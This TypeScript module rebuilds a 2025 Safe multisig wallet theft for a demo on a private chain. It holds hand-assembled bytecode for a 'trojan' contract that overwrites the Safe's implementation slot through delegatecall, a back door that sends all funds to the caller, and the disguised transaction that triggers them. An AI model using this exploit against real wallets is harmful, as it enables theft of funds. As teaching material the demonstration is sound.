/**
 * The attack of February 2025, rebuilt for the demo: a contract that looks like a token transfer from outside and, when
 * a Safe delegatecalls it, replaces the code that the Safe runs. Both contracts are written by hand, byte by byte, so
 * that nothing about them is hidden. They exist only on the demo's own chain.
 */
import { type Address, encodeFunctionData, type Hex, parseAbi, zeroAddress } from 'viem';
import type { Chain } from './chain.ts';
import type { SafeTx } from './safe-tx.ts';

/**
 * Init code of every contract here: copy the code behind it to memory and return it.
 *
 *     60 LL   PUSH1 LL      length of the code
 *     80      DUP1
 *     60 0b   PUSH1 0b      where it starts: right behind these 11 bytes
 *     60 00   PUSH1 00      to memory 0
 *     39      CODECOPY
 *     60 00   PUSH1 00
 *     f3      RETURN        memory 0 .. LL
 */
function initCode(runtime: string): Hex {
  const length = (runtime.length / 2).toString(16).padStart(2, '0');
  return `0x60${length}80600b6000396000f3${runtime}`;
}

/**
 * `transfer(address,uint256)` writes its first argument to storage slot 0; anything else reverts.
 *
 *     00  60 00         PUSH1 00
 *     02  35            CALLDATALOAD   first word of the call
 *     03  60 e0         PUSH1 e0
 *     05  1c            SHR            its first four bytes: the selector
 *     06  63 a9059cbb   PUSH4 a9059cbb transfer(address,uint256)
 *     0b  14            EQ
 *     0c  60 14         PUSH1 14
 *     0e  57            JUMPI
 *     0f  60 00         PUSH1 00
 *     11  60 00         PUSH1 00
 *     13  fd            REVERT
 *     14  5b            JUMPDEST
 *     15  60 04         PUSH1 04
 *     17  35            CALLDATALOAD   the first argument
 *     18  60 00         PUSH1 00
 *     1a  55            SSTORE         slot 0, of the Safe if the Safe delegatecalls
 *     1b  00            STOP
 */
const TROJAN = initCode('60003560e01c63a9059cbb1460145760006000fd5b60043560005500');

/**
 * What slot 0 is pointed at: code that hands everything to whoever calls.
 *
 *     00  60 00   PUSH1 00   no return data, four times
 *     02  60 00   PUSH1 00
 *     04  60 00   PUSH1 00
 *     06  60 00   PUSH1 00
 *     08  47      SELFBALANCE
 *     09  33      CALLER
 *     0a  5a      GAS
 *     0b  f1      CALL
 *     0c  00      STOP
 */
const BACK_DOOR = initCode('600060006000600047335af100');

export interface Trojan {
  /** The contract whose `transfer` is not a transfer. */
  readonly trojan: Address;
  /** The code that takes the place of the Safe's own. */
  readonly backDoor: Address;
}

export async function deployTrojan(chain: Chain): Promise<Trojan> {
  return { trojan: await chain.deploy(TROJAN), backDoor: await chain.deploy(BACK_DOOR) };
}

/**
 * The SafeTx of the attack: operation 1 (delegatecall) to the trojan, calldata of a harmless-looking
 * `transfer(backDoor, 0)`, no value, no refund, the gas that the real one had.
 */
export function trojanSafeTx(trojan: Trojan, nonce: bigint): SafeTx {
  return {
    to: trojan.trojan,
    value: 0n,
    data: encodeFunctionData({
      abi: parseAbi(['function transfer(address to, uint256 amount) returns (bool)']),
      functionName: 'transfer',
      args: [trojan.backDoor, 0n],
    }),
    operation: 1,
    safeTxGas: 45_746n,
    baseGas: 0n,
    gasPrice: 0n,
    gasToken: zeroAddress,
    refundReceiver: zeroAddress,
    nonce,
  };
}

/** What the thief does next: any call of the Safe now runs the back door. The relayer plays the thief. */
export async function sweep(chain: Chain, safe: Address): Promise<void> {
  await chain.relay({ to: safe, data: '0x' });
}
